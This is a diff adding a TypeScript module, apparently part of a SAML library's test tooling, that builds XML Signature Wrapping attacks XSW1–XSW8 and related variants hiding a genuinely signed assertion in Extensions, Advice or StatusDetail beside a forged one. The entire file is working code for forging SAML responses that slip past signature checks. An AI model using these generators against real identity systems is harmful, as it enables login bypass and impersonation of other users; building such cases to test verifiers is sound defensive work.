@@ -1,0 +1,122 @@
+// XSW1–XSW8 (Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be", USENIX Security 2012)
+// and the other hiding places of a signed assertion next to a forged one.
+import { NS } from '@samlbridge/protocol';
+import { assertionOf, child, cloneEl, dsObject, evilAssertion, insertAfter, parse, root, serialize, signatureOf } from './dom.js';
+import type { Genuine } from './types.js';
+
+/** XSW1: a new (evil) Response; the original signed Response moves INTO its Signature (ds:Object). */
+export function xsw1(g: Genuine): string {
+  const doc = parse(g.issue({ signing: 'response' }));
+  const original = root(doc);
+  const evil = cloneEl(original);
+  evil.setAttribute('ID', '_evilResponse');
+  const sig = signatureOf(evil);
+  const evilAssertionEl = child(evil, NS.assertion, 'Assertion');
+  evil.replaceChild(evilAssertion(evilAssertionEl), evilAssertionEl);
+  const originalCopy = cloneEl(original);
+  originalCopy.removeChild(signatureOf(originalCopy));
+  sig.appendChild(dsObject(doc, originalCopy));
+  return serialize(evil);
+}
+
+/** XSW2: like XSW1, but the original Response sits BEFORE the Signature (a detached signature). */
+export function xsw2(g: Genuine): string {
+  const doc = parse(g.issue({ signing: 'response' }));
+  const original = root(doc);
+  const evil = cloneEl(original);
+  evil.setAttribute('ID', '_evilResponse');
+  const sig = signatureOf(evil);
+  const evilAssertionEl = child(evil, NS.assertion, 'Assertion');
+  evil.replaceChild(evilAssertion(evilAssertionEl), evilAssertionEl);
+  const originalCopy = cloneEl(original);
+  originalCopy.removeChild(signatureOf(originalCopy));
+  evil.insertBefore(originalCopy, sig);
+  return serialize(evil);
+}
+
+/** XSW3: the evil assertion is inserted BEFORE the signed one, as a sibling. `sameId` copies the signed ID. */
+export function xsw3(g: Genuine, sameId = false): string {
+  const doc = parse(g.issue({ signing: 'assertion' }));
+  const signed = assertionOf(doc);
+  root(doc).insertBefore(evilAssertion(signed, sameId ? (signed.getAttribute('ID') as string) : '_evil'), signed);
+  return serialize(doc);
+}
+
+/** XSW4: the evil assertion WRAPS the signed one (the signed assertion becomes its child). */
+export function xsw4(g: Genuine, sameId = false): string {
+  const doc = parse(g.issue({ signing: 'assertion' }));
+  const signed = assertionOf(doc);
+  const evil = evilAssertion(signed, sameId ? (signed.getAttribute('ID') as string) : '_evil');
+  root(doc).replaceChild(evil, signed);
+  evil.appendChild(signed);
+  return serialize(doc);
+}
+
+/** XSW5: the evil assertion carries the ORIGINAL signature; an unsigned copy of the original is appended at the end. */
+export function xsw5(g: Genuine): string {
+  const doc = parse(g.issue({ signing: 'assertion' }));
+  const signed = assertionOf(doc);
+  const evil = evilAssertion(signed);
+  evil.insertBefore(cloneEl(signatureOf(signed)), child(evil, NS.assertion, 'Subject'));
+  const copy = cloneEl(signed);
+  copy.removeChild(signatureOf(copy));
+  root(doc).replaceChild(evil, signed);
+  root(doc).appendChild(copy);
+  return serialize(doc);
+}
+
+/** XSW6: the evil assertion carries the original signature, and the original assertion sits inside that signature. */
+export function xsw6(g: Genuine): string {
+  const doc = parse(g.issue({ signing: 'assertion' }));
+  const signed = assertionOf(doc);
+  const evil = evilAssertion(signed);
+  const sig = cloneEl(signatureOf(signed));
+  evil.insertBefore(sig, child(evil, NS.assertion, 'Subject'));
+  const copy = cloneEl(signed);
+  copy.removeChild(signatureOf(copy));
+  sig.appendChild(copy);
+  root(doc).replaceChild(evil, signed);
+  return serialize(doc);
+}
+
+/** XSW7: the signed assertion hides in samlp:Extensions; the evil one takes its place. */
+export function xsw7(g: Genuine): string {
+  return hideIn(g, 'extensions');
+}
+
+/** XSW8: the evil assertion carries the original signature, whose ds:Object holds the original assertion without it. */
+export function xsw8(g: Genuine): string {
+  const doc = parse(g.issue({ signing: 'assertion' }));
+  const signed = assertionOf(doc);
+  const evil = evilAssertion(signed);
+  const sig = cloneEl(signatureOf(signed));
+  evil.insertBefore(sig, child(evil, NS.assertion, 'Subject'));
+  const copy = cloneEl(signed);
+  copy.removeChild(signatureOf(copy));
+  sig.appendChild(dsObject(doc, copy));
+  root(doc).replaceChild(evil, signed);
+  return serialize(doc);
+}
+
+/** The signed assertion hidden in Extensions / Advice / StatusDetail, a forged one in its place. */
+export function hideIn(g: Genuine, where: 'extensions' | 'advice' | 'statusDetail'): string {
+  const doc = parse(g.issue({ signing: 'assertion' }));
+  const response = root(doc);
+  const signed = assertionOf(doc);
+  const evil = evilAssertion(signed);
+  response.replaceChild(evil, signed);
+  if (where === 'extensions') {
+    const ext = doc.createElementNS(NS.protocol, 'samlp:Extensions');
+    ext.appendChild(signed);
+    insertAfter(response, ext, child(response, NS.assertion, 'Issuer'));
+  } else if (where === 'advice') {
+    const advice = doc.createElementNS(NS.assertion, 'saml:Advice');
+    advice.appendChild(signed);
+    evil.insertBefore(advice, child(evil, NS.assertion, 'AuthnStatement'));
+  } else {
+    const detail = doc.createElementNS(NS.protocol, 'samlp:StatusDetail');
+    detail.appendChild(signed);
+    child(response, NS.protocol, 'Status').appendChild(detail);
+  }
+  return serialize(doc);
+}
